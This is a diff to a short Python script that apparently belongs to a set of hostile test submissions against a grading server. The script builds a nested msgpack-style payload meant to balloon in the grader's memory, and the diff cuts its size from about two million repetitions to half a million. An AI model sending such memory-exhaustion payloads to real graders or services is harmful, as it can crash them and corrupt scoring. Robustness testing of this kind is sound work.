@@ -1,4 +1,4 @@
-# tries: to blow sixteen megabytes up to many times their size in the grader's memory
+# tries: to blow three megabytes up to many times their size in the grader's memory
 # points: 0
 # harm: marks, memory
 import os
@@ -17,7 +17,8 @@ def connection():
 def frame(data):
     return len(data).to_bytes(4, "big") + data
 
-BOMB = b"\x93\xa5tuple\xa5value\xdd" + (2 * 10**6 + 1).to_bytes(4, "big") + b"\xa4list" + b"\x91\xa4list" * 2 * 10**6
+COUNT = 5 * 10**5
+BOMB = b"\x93\xa5tuple\xa5value\xdd" + (COUNT + 1).to_bytes(4, "big") + b"\xa4list" + b"\x91\xa4list" * COUNT
 
 whole = memoryview(frame(BOMB))
 while whole:
